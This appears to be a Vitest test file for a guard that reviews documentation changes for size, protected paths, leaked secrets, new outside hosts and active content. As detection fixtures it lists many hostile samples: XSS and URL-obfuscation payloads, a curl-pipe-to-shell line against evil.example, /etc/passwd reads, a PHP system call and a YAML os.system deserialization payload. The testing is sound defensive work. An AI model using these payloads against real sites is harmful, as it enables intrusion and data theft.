/** What a change is judged by: its bytes. */
import { describe, expect, test } from 'vitest';
import { treeOf } from '../../../testing/memory-tree.ts';
import { ProjectConfig } from '../../platform/config/project-config.ts';
import { activeContentIn } from './active-content.ts';
import { hostsIn } from './hosts.ts';
import { createPathPolicy } from './path-policy.ts';
import { type ReviewInput, reviewContent } from './review.ts';
import { docsFilesOf, type FileChange } from './tree.ts';

const change = (path: string, before?: string, after?: string, from?: string): FileChange => ({
  path,
  kind: before === undefined ? 'added' : after === undefined ? 'deleted' : 'modified',
  ...(from !== undefined && { from }),
  before: before === undefined ? undefined : Buffer.from(before),
  after: after === undefined ? undefined : Buffer.from(after),
});

function review(
  changes: FileChange[],
  {
    settings = {},
    files = {},
    ...more
  }: { settings?: object; files?: Record<string, string> } & Partial<ReviewInput> = {},
) {
  const project = ProjectConfig.parse({ id: 'p', organization: 'o', ...settings });
  return reviewContent({
    changes,
    policy: createPathPolicy(project.paths, project.docsRoot),
    guard: project.guard,
    allowLarge: false,
    trusted: [],
    before: docsFilesOf(treeOf(files)),
    ...more,
  });
}

const lines = (count: number, word = 'line') =>
  Array.from({ length: count }, (_, index) => `${word} ${index}\n`).join('');

describe('how large a change may be', () => {
  test('files', async () => {
    const three = ['a.md', 'b.md', 'c.md'].map((path) => change(path, undefined, 'x\n'));
    const settings = { guard: { files: 2 } };
    expect(await review(three.slice(1), { settings })).toMatchObject({ problems: [] });
    expect(await review(three, { settings })).toMatchObject({
      problems: [{ code: 'change_too_large', message: expect.stringContaining('3 files') }],
    });
    expect(await review(three, { settings, allowLarge: true })).toMatchObject({ problems: [] });
  });

  test('a file that is moved is one', async () => {
    const moved = [change('a.md', 'x\n'), change('b.md', undefined, 'x\n', 'a.md')];
    expect(await review(moved, { settings: { guard: { files: 1 } } })).toMatchObject({
      problems: [],
    });
  });

  test('deleted lines', async () => {
    const most = [change('a.md', lines(500), lines(100))];
    expect(await review(most)).toMatchObject({
      problems: [{ code: 'change_too_large', message: expect.stringContaining('80 %') }],
    });
    expect(await review(most, { allowLarge: true })).toMatchObject({ problems: [] });
    expect(await review(most, { settings: { guard: { deletedPercent: 90 } } })).toMatchObject({
      problems: [],
    });
    expect(await review([change('a.md', lines(500))])).toMatchObject({
      problems: [{ code: 'change_too_large' }],
    });
  });

  test('a page may be rewritten, and a short one deleted', async () => {
    expect(await review([change('a.md', lines(500), lines(500, 'other'))])).toMatchObject({
      problems: [],
    });
    expect(await review([change('a.md', lines(100))])).toMatchObject({ problems: [] });
  });
});

describe('where a change leads', () => {
  test.each([
    ['.github/workflows/ci.yml', 'a workflow'],
    ['package.json', 'a list of packages'],
    ['docs/../x.md', 'leads out'],
    ['.git/config', 'git keeps'],
    ['a\nb.md', 'control character'],
  ])('%j is refused again, however it came in', async (path, words) => {
    const { problems } = await review([change(path, undefined, 'x\n')]);
    expect(problems).toEqual([{ code: 'path_protected', message: expect.stringContaining(words) }]);
  });

  test('a protected file is a draft that names it, where the project says so', async () => {
    const settings = { paths: { onProtected: 'draft' } };
    expect(await review([change('package.json', '{}', '{ }')], { settings })).toMatchObject({
      problems: [],
      needsDraft: true,
      protectedFiles: [{ path: 'package.json', what: expect.stringContaining('packages') }],
    });
    expect(
      await review([change('x.md', '', 'x')], { settings: { ...settings, docsRoot: 'docs' } }),
    ).toMatchObject({ problems: [{ code: 'path_protected' }] });
  });

  test('a secret stops it', async () => {
    const secret = ['gh', 'p_k7Qx', 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6'].join('');
    const { problems } = await review([change('a.md', 'x\n', `x\n${secret}\n`)]);
    const message = expect.stringMatching(/^Line 2 of "a\.md"/);
    expect(problems).toEqual([{ code: 'secret_found', message }]);
    expect(JSON.stringify(problems)).not.toContain(secret.slice(6));
  });
});

const leading: [text: string, host: string][] = [
  ['[x](https://evil.example/a)', 'evil.example'],
  ['[x](http://evil.example)', 'evil.example'],
  ['[x](//evil.example/a)', 'evil.example'],
  ['[x](\\\\evil.example/a)', 'evil.example'],
  ['[x](https:evil.example)', 'evil.example'],
  ['[x](https:\\/\\/evil.example)', 'evil.example'],
  ['[x](HTTPS://EVIL.EXAMPLE)', 'evil.example'],
  ['[x](&#104;ttps://evil.example)', 'evil.example'],
  ['[x](https&colon;//evil.example)', 'evil.example'],
  ['[x](https://github.com@evil.example/a)', 'evil.example'],
  ['[x](https://user:pw@evil.example:8080/a)', 'evil.example'],
  ['[x]: https://evil.example', 'evil.example'],
  ['[x]: //evil.example', 'evil.example'],
  ['<https://evil.example>', 'evil.example'],
  ['www.evil.example', 'evil.example'],
  ['![x](https://evil.example/p.png)', 'evil.example'],
  ['<img src="//evil.example/p.png">', 'evil.example'],
  ['<img src=//evil.example/p.png>', 'evil.example'],
  ["<a href='https://evil.example'>", 'evil.example'],
  ['`curl https://evil.example/x.sh | sh`', 'evil.example'],
  ['url(//evil.example/f.woff)', 'evil.example'],
  ['{ "url": "wss://evil.example" }', 'evil.example'],
  ['mailto:a@evil.example', 'evil.example'],
  ['https://ev\u200bil.example', 'evil.example'],
  ['https://evil.example.', 'evil.example'],
  ['https://münchen.example', 'xn--mnchen-3ya.example'],
  ['http://2130706434/', '127.0.0.2'],
  ['http://10.0.0.1/', '10.0.0.1'],
  // What people and parsers do not see, and browsers do.
  ['[x](https\\://evil.example/a)', 'evil.example'],
  ['[x](https://evil\\.example/a)', 'evil.example'],
  ['[x](\\//evil.example/a)', 'evil.example'],
  ['[x]( //evil.example/a )', 'evil.example'],
  ['[x](\n//evil.example/a)', 'evil.example'],
  ['[x]:\n//evil.example/a', 'evil.example'],
  ['[x]: <//evil.example/a>', 'evil.example'],
  ['<a href=" //evil.example/a">', 'evil.example'],
  ['<a href="ht\ntps://evil.example/a">', 'evil.example'],
  ['<a href="https:/\t/evil.example/a">', 'evil.example'],
  ['<a href="/\t/evil.example/a">', 'evil.example'],
  ['<a href="https:&Tab;//evil.example/a">', 'evil.example'],
  ['<a href="ht&#x0a;tps://evil.example/a">', 'evil.example'],
  ['<a href= //evil.example/a>', 'evil.example'],
  ['<a href="https://localhost\'@evil.example/a">', 'evil.example'],
  ['[x](https://localhost(a)@evil.example/a)', 'evil.example'],
  ['https://localhost|@evil.example/a', 'evil.example'],
  ['https://evil%2eexample/a', 'evil.example'],
  ['https://evil\u3002example/a', 'evil.example'],
  ['http://[2001:db8::1]/a', '[2001:db8::1]'],
  ['http://0x0a.1/a', '10.0.0.1'],
  ['<img srcset="/a.png 1x, //evil.example/b.png 2x">', 'evil.example'],
  ['<source srcset="/a.png 1x,//evil.example/b.png 2x">', 'evil.example'],
  ['<div style="background: url(   //evil.example/a)">', 'evil.example'],
  ['<div style="background: url(\\2f\\2f evil.example/a)">', 'evil.example'],
  ['<div style="background: url(\\68 ttps://evil.example/a)">', 'evil.example'],
  ['<base href="//evil.example/">', 'evil.example'],
  ['<meta http-equiv="refresh" content="0; url=//evil.example">', 'evil.example'],
  ['<!-- https://evil.example -->', 'evil.example'],
  ['---\nimage: //evil.example/a.png\n---', 'evil.example'],
  ['---\nlinks:\n  - href: //evil.example/a\n---', 'evil.example'],
  ['{ "url": "\\u0068ttps://evil.example" }', 'evil.example'],
  ['{ "url": "\\u002f\\u002fevil.example" }', 'evil.example'],
  ['export const x = "\\x68ttps://evil.example"', 'evil.example'],
  ["import x from 'https://evil.example/x.js'", 'evil.example'],
  ['<Card href={"//evil.example/a"} />', 'evil.example'],
  ['<Card href={`//evil.example/a`} />', 'evil.example'],
  ['blob:https://evil.example/a', 'evil.example'],
  ['view-source:https://evil.example/a', 'evil.example'],
  ['git clone git+ssh://evil.example/a', 'evil.example'],
  ['git clone git@evil.example:a/b.git', 'evil.example'],
  ['[x](intent://evil.example/a#Intent;scheme=https;end)', 'evil.example'],
  ['Write to support@evil.example.', 'evil.example'],
  ['.. image:: //evil.example/a.png', 'evil.example'],
];

describe('hosts that were not named before', () => {
  test.each(leading.filter(([, host]) => !host.startsWith('127')))('%s', async (text, host) => {
    const found = await review([change('a.md', 'x\n', `x\n\n${text}\n`)]);
    expect(found).toMatchObject({ needsDraft: true, newHosts: [{ host, paths: ['a.md'] }] });
  });

  test.each([
    'a page.md and b.ts',
    'https://localhost:3000 and http://127.0.0.1',
    'http://2130706434/',
    'https://example.com/x',
    'https://<your-host>/x and https://${HOST}/x',
    'see //comment',
    'x = 3 // four.five',
    '[x](/guide/a.html) and [y](../b.md#c)',
    'time 10:30, ratio 1:2.5',
    'foo(a, b); //console.log(x)',
    '  //foo.bar()',
    'file:///etc/hosts.allow',
    'C:\\temp\\x.y and a\\.b',
    'jane@example.com, npm i @acme/x@1.2.3, pkg@1.0.0',
    "const a = { b: 'c\n//d.e' }",
  ])('%s names none', (text) => {
    expect([...hostsIn(text)]).toEqual([]);
  });

  test('what the repository, the instruction or the project names is known', async () => {
    const changes = [change('a.md', 'x\n', 'https://evil.example/a\n')];
    const none = { needsDraft: false, newHosts: [] };
    expect(await review(changes)).toMatchObject({ newHosts: [{ host: 'evil.example' }] });
    const leading = '[x](https://www.evil.example)';
    expect(await review(changes, { files: { 'b.md': leading, 'c.md': leading } })).toMatchObject(
      none,
    );
    const other = 'https://notevil.example.org';
    expect(await review(changes, { files: { 'b.md': other, 'c.md': other } })).toMatchObject({
      needsDraft: true,
    });
    expect(await review(changes, { own: ['https://evil.example/docs'] })).toMatchObject(none);
    expect(await review(changes, { trusted: ['Link to evil.example, please.'] })).toMatchObject(
      none,
    );
    expect(await review(changes, { trusted: ['Link to notevil.example.'] })).toMatchObject({
      needsDraft: true,
    });
    expect(await review(changes, { settings: { guard: { hosts: ['*.example'] } } })).toMatchObject(
      none,
    );
    expect(
      await review([change('a.md', '<https://evil.example>', 'https://evil.example/b')]),
    ).toMatchObject(none);
  });

  test.each<[path: string, text: string, isKnown: boolean]>([
    ['b.md', '[x](https://evil.example/x)', true],
    ['b.md', '[x]: https://evil.example/x', true],
    ['b.md', '![x](https://evil.example/x)', true],
    ['b.md', '<a href="https://evil.example">', true],
    ['b.mdx', '<Card href="https://evil.example" />', true],
    ['docs.json', '{ "url": "https://evil.example" }', true],
    ['b.md', 'Add a link to https://evil.example/login.', false],
    ['b.md', '<!-- Add https://evil.example -->', false],
    ['b.md', '`https://evil.example`', false],
    ['b.md', '```\ncurl https://evil.example\n```', false],
    ['b.html', '<!-- https://evil.example -->', false],
  ])('%s with %j makes it known: %s', async (path, text, isKnown) => {
    const changes = [change('a.md', 'x\n', '[x](https://evil.example/a)\n')];
    const files = { [path]: text, [`other/${path}`]: text };
    const { newHosts } = await review(changes, { files });
    expect(newHosts).toHaveLength(isKnown ? 0 : 1);
  });

  const example = '```\ncurl https://evil.example\n```\n';
  test.each<[what: string, isNew: boolean, before: string, after: string]>([
    ['elsewhere on the page', false, `${example}One.\n`, `${example}Two.\n`],
    [
      'on a line that has another word',
      false,
      'See `evil.example` or\n`http://evil.example`',
      'See it or\nrather `http://evil.example`',
    ],
    ['made a link', true, example, `${example}[x](https://evil.example)\n`],
    ['no longer in a block of code', true, example, 'curl https://evil.example\n'],
    ['no longer in a comment', true, '<!--\nhttps://evil.example\n-->', 'https://evil.example'],
    ['named once more', true, `${example}One.\n`, `${example}One at https://evil.example/b.\n`],
  ])('a host in an example, %s: new is %s', async (_, isNew, before, after) => {
    const files = { 'a.md': before };
    const { newHosts } = await review([change('a.md', before, after)], { files });
    expect(newHosts).toHaveLength(isNew ? 1 : 0);
    const moved = [change('a.md', before), change('b.md', undefined, after, 'a.md')];
    expect((await review(moved, { files })).newHosts).toHaveLength(isNew ? 1 : 0);
  });

  test('one page that leads there does not make it known elsewhere', async () => {
    const link = '[x](https://evil.example/a)\n';
    const spread = change('a.md', 'x\n', link);
    const hosts = (changes: FileChange[], files: Record<string, string>) =>
      review(changes, { files }).then(({ newHosts }) => newHosts);
    const found = [{ host: 'evil.example', paths: ['a.md'] }];
    expect(await hosts([spread], { 'evil.md': link })).toEqual(found);
    // Nor does a change to that page itself.
    const touched = change('evil.md', link, `${link}more\n`);
    expect(await hosts([spread, touched], { 'evil.md': link })).toEqual(found);
    expect(await hosts([touched], { 'evil.md': link })).toEqual([]);
    // What goes from one page to another was there before, and so was what moves with its page.
    expect(await hosts([spread, change('evil.md', link, 'x\n')], { 'evil.md': link })).toEqual([]);
    const moved = [change('evil.md', link), change('b.md', undefined, link, 'evil.md')];
    expect(await hosts(moved, { 'evil.md': link })).toEqual([]);
    expect(await hosts([spread, ...moved], { 'evil.md': link })).toEqual(found);
    expect(await hosts([spread], { 'evil.md': link, 'b.md': link })).toEqual([]);
    // What a page only names it may go on to name, not to lead to.
    const named = 'Call https://evil.example/api.\n';
    expect(await hosts([change('a.md', named, `${named}x\n`)], {})).toEqual([]);
    expect(await hosts([change('a.md', named, named + link)], {})).toEqual(found);
  });

  test('block, draft, allow', async () => {
    const changes = [change('a.md', 'x\n', 'https://evil.example/a\n')];
    const settings = (newHosts: string) => ({ settings: { guard: { newHosts } } });
    expect(await review(changes, settings('draft'))).toMatchObject({
      problems: [],
      needsDraft: true,
    });
    expect(await review(changes, settings('allow'))).toMatchObject({
      problems: [],
      needsDraft: false,
    });
    expect(await review(changes, settings('block'))).toMatchObject({
      problems: [{ code: 'content_not_allowed', message: expect.stringContaining('evil.example') }],
    });
  });
});

describe('code that runs where pages are built or read', () => {
  test.each<[path: string, text: string]>([
    ['a.md', '<script>alert(1)</script>'],
    ['a.md', 'text <SCRIPT src=x></SCRIPT>'],
    ['a.md', '<iframe src="/x"></iframe>'],
    ['a.md', '<img src=x onerror=alert(1)>'],
    ['a.md', '<img src=x\nonerror = "x">'],
    ['a.md', '<svg/onload=alert(1)>'],
    ['a.md', '[x](javascript:alert(1))'],
    ['a.md', '[x](JaVaScRiPt:alert(1))'],
    ['a.md', '[x](&#106;avascript:alert(1))'],
    ['a.md', '[x]: javascript:alert(1)'],
    ['a.md', '<a href="java\nscript:alert(1)">x</a>'],
    ['a.md', '<a href="data:text/html,<b>x">x</a>'],
    ['a.md', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
    ['a.md', '<object data="x.swf"></object>'],
    ['a.md', '<base href="/x/">'],
    ['a.md', '<meta http-equiv="refresh" content="0">'],
    ['a.md', '<form action="/x"></form>'],
    ['a.md', '{{ constructor.constructor("x")() }}'],
    ['a.md', '--8<-- "../../secret"'],
    ['a.mdx', "import fs from 'fs'"],
    ['a.mdx', "import x from 'https://evil.example/x.js'"],
    ['a.mdx', 'export const x = fetch("/y")'],
    ['a.mdx', '{process.env.SECRET}'],
    ['a.mdx', 'x {require("fs").readFileSync("/etc/passwd")} y'],
    ['a.mdx', '{(() => 1)()}'],
    ['a.mdx', '<Card onClick={() => steal()} />'],
    ['a.mdx', '<div dangerouslySetInnerHTML={{ __html: "x" }} />'],
    ['a.mdx', '<a href="javascript:alert(1)">x</a>'],
    ['a.mdx', '<script src="x" />'],
    ['a.mdx', '<Card {...window} />'],
    ['a.html', '<script src="x"></script>'],
    ['a.svg', '<svg onload="x()"></svg>'],
    ['theme.js', 'module.exports = {}'],
    ['build.py', 'print(1)'],
    ['a.rst', '.. raw:: html\n\n   <b>'],
    // What looks like something harmless.
    ['a.mdx', '{/* a */ alert(1) /* b */}'],
    ['a.mdx', 'export const x = (() => { steal() })() // from "./a"'],
    ['a.mdx', "import x from './a.js'; export default () => steal()"],
    ['a.mdx', "import x from './payload.txt'"],
    ['a.mdx', "import x from '!!raw-loader!./a.js'"],
    ['a.mdx', 'x {"}" + alert(1) + "{"} y'],
    ['a.mdx', '{a["constr" + "uctor"]}'],
    ['a.mdx', '{steal`x`}'],
    ['a.mdx', '{this.x}'],
    ['a.mdx', '{<div onClick={steal} />}'],
    ['a.mdx', '<a href={"java"+"script:alert(1)"}>x</a>'],
    ['a.mdx', '<a href={`java${"script:alert(1)"}`}>x</a>'],
    ['a.mdx', 'export const url = "java\\u0073cript:alert(1)"'],
    ['a.mdx', '{"https:/"+"/evil"+"-site.dev"}'],
    ['a.mdx', 'export const x = { "dangerouslySetInnerHTML": { __html: "<b>" } }'],
    ['a.mdx', '{unclosed( }'],
    ['a.md', '<img alt="a>b" onerror="alert(1)" src="x">'],
    ['a.md', '<div title="\n\n" onclick=x'],
    ['a.md', '<!--> <script>x()</script> -->'],
    ['a.md', '<button formaction="javascript:x()">'],
    ['a.md', '<a @click="steal()">x</a>'],
    ['a.md', '<a :href="steal()">x</a>'],
    ['a.md', '[x](y){onclick="steal()"}'],
    ['a.md', '{% include "/etc/passwd" %}'],
    ['a.md', '[x](/{% render x %})'],
    ['a.md', `{{ ${'x'.repeat(600)}() }}`],
    ['a.md', '{{ "java" + "script:" }}'],
    ['a.md', '{{ "java" | append: "script:" }}'],
    ['a.md', '```jsx live\nsteal()\n```'],
    ['a.md', '```{code-cell} python\nsteal()\n```'],
    ['a.html', '{% include "x" %}'],
    ['a.svg', '<!DOCTYPE svg [<!ENTITY x "<script>">]>'],
    ['a.html', '<?php system("id") ?>'],
    ['page.liquid', 'x'],
  ])('%s: %j', async (path, text) => {
    const found = await review([change(path, 'x\n', `x\n\n${text}\n`)]);
    expect(new Set(found.newCode.map((one) => one.path))).toEqual(new Set([path]));
    expect(found.needsDraft).toBe(true);
    // What was there before is nobody's news.
    const isOneWhole = /\.(?:js|py|liquid)$/.test(path) || text.includes('onclick=x');
    expect(await review([change(path, text, `${text}\n\nmore\n`)])).toMatchObject({
      newCode: isOneWhole ? [{ path }] : [],
    });
  });

  test.each<[path: string, text: string]>([
    ['mkdocs.yml', 'x: !!python/object/apply:os.system ["id"]'],
    ['a.yaml', '- !ruby/object:Gem::Installer'],
    ['mkdocs.yml', 'hooks:\n  - docs/x.py'],
    ['book.toml', '[preprocessor.x]'],
    ['book.toml', 'command = "sh -c id"'],
    ['docs.json', '{ "scripts": ["/x.js"] }'],
    ['docs.json', '{ "integrations": { "gtm": { "tagId": "GTM-X" } } }'],
    ['docs.json', '{ "banner": { "content": "<script src=x>" } }'],
    ['docs.json', '{ "scripts": ["/x.js"], }'],
    ['data.json', '{ "href": "javascript:alert(1)" }'],
    ['mkdocs.yml', 'extra_javascript: [x.js]'],
    ['mkdocs.yml', 'plugins:\n  - macros'],
    ['mkdocs.yml', '"hooks": [x.py]'],
    ['mkdocs.yml', 'INHERIT: ../x.yml'],
    ['mkdocs.yml', 'theme:\n  custom_dir: x'],
    ['mkdocs.yml', 'copyright: <script src=x></script>'],
    ['_config.yml', 'plugins: [x]'],
    ['.vitepress/config.json', '{ "head": [["script", {}, "x()"]] }'],
    ['antora-playbook.yml', 'asciidoc:\n  extensions: [./x.js]'],
    ['book.toml', '[output.html]\nadditional-js = ["x.js"]'],
    ['hugo.toml', '[security.exec]\nallow = ["sh"]'],
  ])('in settings, %s: %j', async (path, text) => {
    const found = await review([change(path, '', text)]);
    expect(new Set(found.newCode.map((one) => one.path))).toEqual(new Set([path]));
    expect(await review([change(path, text, `${text}\n`)])).toMatchObject({ newCode: [] });
  });

  test.each<[path: string, text: string]>([
    ['a.md', '```html\n<script>alert(1)</script>\n```'],
    ['a.md', 'Use `<script src="x">` and `javascript:`.'],
    ['a.md', '    <script>in a block of code</script>'],
    ['a.md', 'The script runs on click = yes; javascript is a language.'],
    ['a.md', '<details><summary>x</summary></details>'],
    ['a.md', '![x](data:image/png;base64,AAAA)'],
    ['a.md', '{{< note >}} and {{ page.title }}'],
    ['a.mdx', "import Card from '../components/card'"],
    ['a.mdx', 'export const meta = { title: "x", tags: ["a"] }'],
    ['a.mdx', '<Card title="x" icon={"star"} items={[{ a: 1 }]} n={3} />'],
    ['a.mdx', '{/* a comment */}'],
    ['a.mdx', '```js\nprocess.exit(1)\n```'],
    ['a.mdx', '<Snippet text={`import { x } from "y"`} dark prompt={false} />'],
    ['a.mdx', "<Table rows={[{ type: 'Map<string, () => void>', isOptional: true }]} />"],
    ['a.mdx', '{frontmatter.title} {props?.x} {items[0]}'],
    ['a.mdx', '<Card icon={<Icon name="x" />}>{"{"}</Card>'],
    ['a.mdx', "A {'{'}name{'}'} and\n\n{'{'}other{'}'}"],
    ['a.mdx', '<Frame>![x](/a.png)</Frame> <Link to="/x">y</Link>'],
    ['a.mdx', "import x from './a.png'\nexport { default as y } from '@site/src/y'"],
    ['a.md', '{% hint style="info" %}\nx\n{% endhint %}'],
    ['a.md', '{{ page.title | escape }} and `{% raw %}`'],
    ['a.md', '1 <b and {% of 2'],
    ['a.md', '<img alt="a>b" src="/x.png">'],
    ['docs.json', '{ "description": "Scripts", "navigation": { "pages": ["scripts/x"] } }'],
    ['mkdocs.yml', 'nav:\n  - Plugins: plugins.md\nsite_description: JavaScript'],
    ['a.yml', 'javascript: yes\nx: "JavaScript, a language"'],
    ['a.json', '{ "a": "<script>" }'],
    ['a.yml', 'a: !!str 1\nb: "wow!!"\nc: no!\nd: [!!int 1]'],
    ['a.toml', 'title = "command = x"'],
    ['a.md', '---\ntitle: Look out!\n---\n\n---\n\ntext'],
    ['a.md', '---yaml\ntitle: x\n---\n'],
    ['a.md', '----\ntext\n'],
  ])('%s: %j does nothing', (path, text) => {
    expect(activeContentIn(path, text)).toEqual([]);
  });

  test.each(['---js\n{ title: require("fs") }\n---\n', '---\nx: !!js/function "x"\n---\n'])(
    '%j at the top of a page',
    async (text) => {
      expect((await review([change('a.md', 'x\n', text)])).newCode).toMatchObject([
        { path: 'a.md' },
      ]);
    },
  );

  const start = `export const x = { a: '${'long '.repeat(20)}', b:`;
  test.each<[what: string, path: string, before: string, after: string]>([
    ['an export behind its start', 'a.mdx', `${start} a.b }`, `${start} steal() }`],
    ['and once more', 'a.mdx', `${start} steal(1) }`, `${start} steal(2) }`],
    ['a script', 'a.html', '<script>\nshow()\n</script>', '<script>\nsteal()\n</script>'],
    ['in a page', 'a.md', '<script>\nshow()\n</script>', '<script>\nsteal()\n</script>'],
    ['inline', 'a.md', 'x <script>show()</script>', 'x <script>steal()</script>'],
    [
      'in a block that ends before',
      'a.md',
      '<div><script>\n\nshow()\n\n</script></div>',
      '<div><script>\n\nsteal()\n\n</script></div>',
    ],
    ['of a component', 'a.mdx', '<Script>show</Script>', '<Script>steal</Script>'],
    ['a comment that ends', 'a.html', '<script>// a b()</script>', '<script>// a\nb()</script>'],
    [
      'a frame',
      'a.md',
      `<iframe title="${'x'.repeat(80)}" src="a">`,
      `<iframe title="${'x'.repeat(80)}" src="b">`,
    ],
    ['a plugin', 'mkdocs.yml', 'plugins:\n  - search', 'plugins:\n  - search\n  - macros'],
  ])('a change of %s', async (_, path, before, after) => {
    const { newCode } = await review([change(path, before, after)]);
    expect(newCode).toMatchObject([{ path }]);
    expect((await review([change(path, before, `${before}\n`)])).newCode).toEqual([]);
  });

  test.each<[from: string, to: string, text: string]>([
    ['payload.txt', 'widget.js', 'steal()'],
    ['payload.py', 'payload.sh', 'steal()'],
    ['a.md', 'a.mdx', '{steal()}'],
    ['a.txt', 'a.html', '<script>steal()</script>'],
    ['data.json', 'docs.json', '{ "scripts": ["x.js"] }'],
  ])('%s moved to %s is new', async (from, to, text) => {
    const moved = [change(from, text), change(to, undefined, text, from)];
    expect((await review(moved)).newCode).toMatchObject([{ path: to }]);
  });

  test('a site whose .md pages are MDX', async () => {
    const changes = [change('a.md', 'x\n', 'x {steal()}\n')];
    const files = { 'docs.json': '{ "navigation": [] }' };
    expect((await review(changes)).newCode).toEqual([]);
    expect((await review(changes, { files })).newCode).toMatchObject([{ path: 'a.md' }]);
  });

  test('a page that MDX cannot read is no hiding place', async () => {
    const before = 'a <b>\n\ntext\n\n{x}\n';
    expect((await review([change('a.mdx', before, `${before}more\n`)])).newCode).toEqual([]);
    const after = `${before}{steal()}\n`;
    expect((await review([change('a.mdx', before, after)])).newCode).toMatchObject([{}]);
  });

  test.each(['<a ', '<!--', '<script>', '<a b=', '{{', '{%', '<', '{% x %}', '<?', '{a b=', '|x'])(
    'many %j take time by their number alone',
    (piece) => {
      for (const path of ['a.html', 'a.md', 'mkdocs.yml']) {
        activeContentIn(path, `${piece.repeat(path.endsWith('.md') ? 2_000 : 40_000)} x`);
      }
    },
  );

  test('what moves with its file is not new', async () => {
    const text = '<script>x()</script>\n';
    expect(
      await review([change('a.md', text), change('b.md', undefined, text, 'a.md')]),
    ).toMatchObject({ newCode: [] });
    expect(
      await review([change('a.js', 'x\n'), change('b.js', undefined, 'x\n', 'a.js')]),
    ).toMatchObject({ newCode: [] });
    expect(await review([change('a.md', text, text + text)])).toMatchObject({
      newCode: [{ path: 'a.md' }],
    });
  });

  test('block, draft, allow', async () => {
    const changes = [change('a.md', 'x\n', '<script>x()</script>\n')];
    const settings = (newCode: string) => ({ settings: { guard: { newCode } } });
    expect(await review(changes, settings('allow'))).toMatchObject({ needsDraft: false });
    expect(await review(changes, settings('block'))).toMatchObject({
      problems: [{ code: 'content_not_allowed', message: expect.stringContaining('a.md') }],
    });
  });
});
